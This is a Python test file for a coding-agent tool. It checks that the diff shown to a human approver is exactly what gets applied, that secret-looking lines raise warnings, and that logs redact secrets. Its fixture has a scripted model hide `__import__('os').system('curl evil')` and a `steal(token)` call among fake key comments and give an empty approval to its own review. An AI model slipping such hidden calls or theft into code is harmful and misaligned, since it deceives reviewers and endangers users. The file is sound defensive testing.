"""What a change shows is what it applies, wherever it is shown; logs of it hold no secrets."""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from agents.change.planning.plan import ChangePlan, EditTarget
from rooftree.errors import UsageError
from rooftree.telemetry.events import Event
from tests.server.change_terminal import Terminal
from tests.server.changing import BUGGY, SHOP, services_of
from tests.server.commands import Commands
from tests.server.http.test_changes_together import serving
from tests.support import git_repository
from tests.support.replies import Reply, Text
from tests.support.scripted_model import ScriptedServer
from tests.tools.drafts.material import BEGIN, BODY, END, TOKEN
from tools.approvals import ApprovalRequest, ApprovalResponse

TASK = "Make total add up prices"
PLAN = ChangePlan.of("change", [EditTarget("shop/cart.py", "total")])
HIDING = [
    '    """Add up prices."""',
    f"    # {BEGIN}",
    f"    # {BODY}",
    "    __import__('os').system('curl evil')",
    f"    # {END}",
    f"    token = '{TOKEN}'; steal(token)",
    "    return sum(prices)",
]
UNREVIEWED = "the reviewer said nothing that could be read"


def hiding(body: Mapping[str, Any]) -> Reply:
    """Hide code in what looks like secrets, and say nothing to the review."""
    schema = json.dumps(body.get("response_format") or {})
    if "verdict" in schema:
        return Text("Looks good to me!")
    if "playbook" in schema:
        return Text('{"playbook": "change", "places": [1]}')
    return Text("```python\n" + "\n".join(["def total(prices):", *HIDING]) + "\n```")


@pytest.fixture
def model() -> Iterator[ScriptedServer]:
    with ScriptedServer(hiding) as server:
        yield server


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    return git_repository(tmp_path, SHOP)


@pytest.fixture
def commands(tmp_path: Path, model: ScriptedServer) -> Commands:
    (tmp_path / "home").mkdir()
    settings = {
        "ROOFTREE_MODEL_ENDPOINT": model.base_url,
        "ROOFTREE_MODEL_NAME": "scripted",
        "ROOFTREE_SANDBOX_BACKEND": "none",
    }
    return Commands(tmp_path / "home", settings)


def cart(shop: Path) -> str:
    return (shop / "shop" / "cart.py").read_text()


async def test_a_person_and_the_outcome_see_what_is_applied_and_events_hold_no_secret(
    tmp_path: Path, shop: Path, model: ScriptedServer
) -> None:
    questions: list[ApprovalRequest] = []
    events: list[Event] = []

    async def person(asked: ApprovalRequest) -> ApprovalResponse:
        questions.append(asked)
        return ApprovalResponse(True)

    async with services_of(tmp_path, model, sandbox={"backend": "none"}) as services:
        outcome = await services.change(
            TASK, shop, "ask", person, plan=PLAN, listener=events.append
        )
        folder = services.store.open(outcome.run)
    shown, told = questions[-1].shown, outcome.model_dump(mode="json")
    assert outcome.applied
    for text in (shown["diff"], shown["view"], told["diff"], folder.outcome()["view"]):
        assert [line[1:] for line in text.split("\n") if line[:1] == "+"][1:] == HIDING[1:]
    assert "\n".join(HIDING) in cart(shop)
    assert questions[-1].digest == shown["digest"] == outcome.digest
    warned = {(one["line"], one["what"].rpartition(" ")[2]) for one in told["warnings"]}
    assert warned >= {(6, "(private-key)"), (10, "(github-token)")}
    assert shown["review"] == told["review"]
    assert told["review"]["judgement"] == "unreviewed"
    assert (told["review"]["approved"], told["review"]["reasons"]) == (False, [UNREVIEWED])
    (proposed,) = [one.data for one in events if one.kind == "edit.proposed"]
    assert (proposed["digest"], "«redacted:private-key:" in proposed["diff"]) == (
        outcome.digest,
        True,
    )
    for log in (folder.events.read_text(), json.dumps([one.as_json() for one in events])):
        assert TOKEN not in log
        assert BODY not in log


async def test_a_command_is_asked_for_as_it_may_run(tmp_path: Path, shop: Path) -> None:
    questions: list[ApprovalRequest] = []

    async def person(asked: ApprovalRequest) -> ApprovalResponse:
        questions.append(asked)
        return ApprovalResponse(asked.kind == "plan")

    with ScriptedServer(hiding) as model:
        async with services_of(tmp_path, model) as services:
            await services.change(TASK, shop, "ask", person, plan=PLAN)
    (command,) = [one.shown for one in questions if one.kind == "command"]
    assert command["command"].startswith("python -m pytest -q ")
    assert command["command"].endswith(" TESTS")
    assert "TESTS stands for names of tests" in command["where"]
    assert [one.removeprefix(command["command"]) for one in command["also"]] == [
        " -o addopts= -o filterwarnings=",
        " -p rooftree_trace -o addopts= -o filterwarnings=",
    ]


async def test_what_a_run_has_not_shown_is_not_applied(
    tmp_path: Path, shop: Path, model: ScriptedServer
) -> None:
    async with services_of(tmp_path, model, sandbox={"backend": "none"}) as services:
        outcome = await services.change(TASK, shop, "never", plan=PLAN)
        folder = services.store.open(outcome.run)
        told = folder.outcome()
        for kept, digest, why in (
            ({}, None, "has shown no change yet"),
            ({**told, "digest": "0" * 64}, None, "another diff than the one approved"),
            (told, "0" * 64, "another diff than the one approved"),
        ):
            folder.save_outcome(kept)
            with pytest.raises(UsageError, match=why):
                await services.apply(outcome.run, digest)
            assert cart(shop) == BUGGY
        folder.save_outcome(told)
        assert (await services.apply(outcome.run)).applied


async def test_who_approves_by_a_digest_reads_what_it_names(
    tmp_path: Path, shop: Path, model: ScriptedServer
) -> None:
    """The result and the run hold the diff as it is; the events that are streamed do not."""
    async with serving(tmp_path, model, [shop], sandbox={"backend": "none"}) as server:
        body = {"task": TASK, "repo": str(shop), "stream": True}
        streamed = (await server.client.post("/api/change", json=body, timeout=300)).text
        events, _, result = streamed.partition("event: result\n")
        outcome = json.loads(result.partition("data: ")[2].partition("\n")[0])
        told = (await server.client.get(f"/api/runs/{outcome['run']}")).json()["outcome"]
        assert "edit.proposed" in events
        assert TOKEN not in events
        for diff in (outcome["diff"], told["diff"], told["view"]):
            assert f"+{HIDING[5]}\n" in diff
        right = {"digest": told["digest"]}
        run = f"/api/runs/{outcome['run']}/apply"
        assert (await server.client.post(run, json=right)).json()["applied"]
    assert "\n".join(HIDING) in cart(shop)


def test_the_command_line_shows_what_it_applies_and_calls_nothing_approved(
    commands: Commands, shop: Path
) -> None:
    done = commands.run("change", TASK, "--repo", shop, "--approve", "never")
    assert done.code == 1
    shown = commands.run("runs", "show", "last", "--repo", shop)
    applied = commands.run("apply", "last", "--repo", shop)
    for out in (done.out, shown.out, applied.out):
        for line in HIDING[1:]:
            assert f"\n+{line}\n" in out
        assert "\nwarning: shop/cart.py:10 adds what looks like a secret (github-token)\n" in out
    for text in (done.out, done.err, shown.out):
        assert "reviewer approves" not in text
    assert f"not reviewed: {UNREVIEWED}" in done.out
    assert f"not reviewed: {UNREVIEWED}" in shown.out
    assert f"\napplied to {shop}; `rooftree undo " in applied.out
    assert "\n".join(HIDING) in cart(shop)


def test_a_person_at_the_terminal_is_asked_after_the_change_was_shown(
    commands: Commands, shop: Path
) -> None:
    commands.run("change", TASK, "--repo", shop, "--approve", "never")
    for answer, code in (("n\n", 1), ("y\n", 0)):
        assert cart(shop) == BUGGY
        terminal = Terminal(commands, "apply", "last", "--repo", str(shop))
        assert f"to {shop} - [y]es" in terminal.asked()
        terminal.type(answer)
        ended, out = terminal.end()
        assert ended == code
        assert f"\n+{HIDING[3]}\n" in out
    assert "\n".join(HIDING) in cart(shop)
